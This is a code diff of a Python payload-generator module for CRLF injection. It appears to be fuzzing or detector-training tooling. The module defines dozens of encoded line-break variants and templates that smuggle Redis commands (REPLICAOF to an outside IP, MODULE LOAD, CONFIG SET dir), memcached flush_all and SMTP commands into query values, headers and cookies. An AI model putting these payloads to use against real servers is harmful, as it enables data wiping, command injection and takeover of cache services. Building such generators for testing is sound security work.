@@ -3,8 +3,6 @@
 from grammar import Generator, Grammar, Shape
 from surroundings import around
 from written.crlf import CRLF
-from written.crlf_further import CRLF_FURTHER
-from written.crlf_third import CRLF_THIRD
 
 RULES = {
     "crlf": ("\r\n", "\r\n", "\r\n", "\n", "\n", "\r", "%0d%0a", "%0d%0a", "%0d%0a", "%0D%0A", "%0a", "%0A", "%0d", "%0D", "%250d%250a", "%25250d%25250a", "%250a", "%%0d0a", "%0%0d%0d%0a", "%u000d%u000a", "%u000a", "%E5%98%8A%E5%98%8D", "嘊嘍", "嘍嘊", "%E5%98%8D%E5%98%8A", "\\r\\n", "\\n", "\\u000d\\u000a", "\\x0d\\x0a", "%c4%8d%c4%8a", "čĊ", "\u2028", "%e2%80%a8", "\x85", "%c2%85", "%23%0d%0a", "%3f%0d%0a", "/%0d%0a", "%00%0d%0a", "%20%0d%0a", "\x0b", "%0d%09", "%5cr%5cn", "&#13;&#10;", "&#x0d;&#x0a;", "%5c%6e", "\r\n\t", "\r\n ", "%0d%0a%20", "%u560a%u560d", "%0d%20%0a", "=0D=0A", "%25%30%64%25%30%61", "%%0a0a", "%25%30a", "0x0d0x0a", "ʍʊ", "%ca%8d%ca%8a"),
@@ -25,5 +23,5 @@ RULES = {
     "cache": ("«word»:«n»«c:crlf»«SLAVEOF|REPLICAOF» «ip» 6379«@c»", "«t»«c:crlf»EVAL \"return 1\" 0«@c»", "«t»«c:crlf»gets «word»«@c»", "«t»«c:crlf»MODULE LOAD /tmp/«t».so«@c»", "«n»«c:crlf»KEYS *«@c»", "«word»«c:crlf»set «t» 0 0 «n»«@c»«t»«@c»", "«t»«c:crlf»delete «word»«@c»", "«t»«c:crlf»flush_all«@c»", "«t»«c:crlf»SET «word» «t»«@c»QUIT«@c»", "«c:crlf»STAT items«@c»", "«t»«c:crlf»CONFIG SET dir /tmp«@c»", "«t»«c:crlf»EHLO «caller»«@c»MAIL FROM:<«t»@«caller»>"),
 }
 PLACES = (("query-value", 46), ("path", 16), ("body-value", 16), ("header", 12), ("cookie", 6), ("query-name", 3), ("file-name", 1))
-GENERATOR = Generator(Grammar(RULES, {"written": (*CRLF, *CRLF_FURTHER, *CRLF_THIRD)}), [Shape(48, "one", PLACES), Shape(18, "split", PLACES), Shape(9, "smuggle", PLACES), Shape(10, "mail", (("query-value", 30), ("body-value", 70))), Shape(8, "log", PLACES), Shape(5, "cache", PLACES), Shape(3, "part", (("file-name", 60), ("body-value", 20), ("query-value", 20))), Shape(70, "written", PLACES)], lambda rng, place, text: around(rng, place, text) if rng.random() < 0.3 else text)
+GENERATOR = Generator(Grammar(RULES, {"written": CRLF}), [Shape(48, "one", PLACES), Shape(18, "split", PLACES), Shape(9, "smuggle", PLACES), Shape(10, "mail", (("query-value", 30), ("body-value", 70))), Shape(8, "log", PLACES), Shape(5, "cache", PLACES), Shape(3, "part", (("file-name", 60), ("body-value", 20), ("query-value", 20))), Shape(70, "written", PLACES)], lambda rng, place, text: around(rng, place, text) if rng.random() < 0.3 else text)
 generate, generate_placed = GENERATOR.generate, GENERATOR.generate_placed
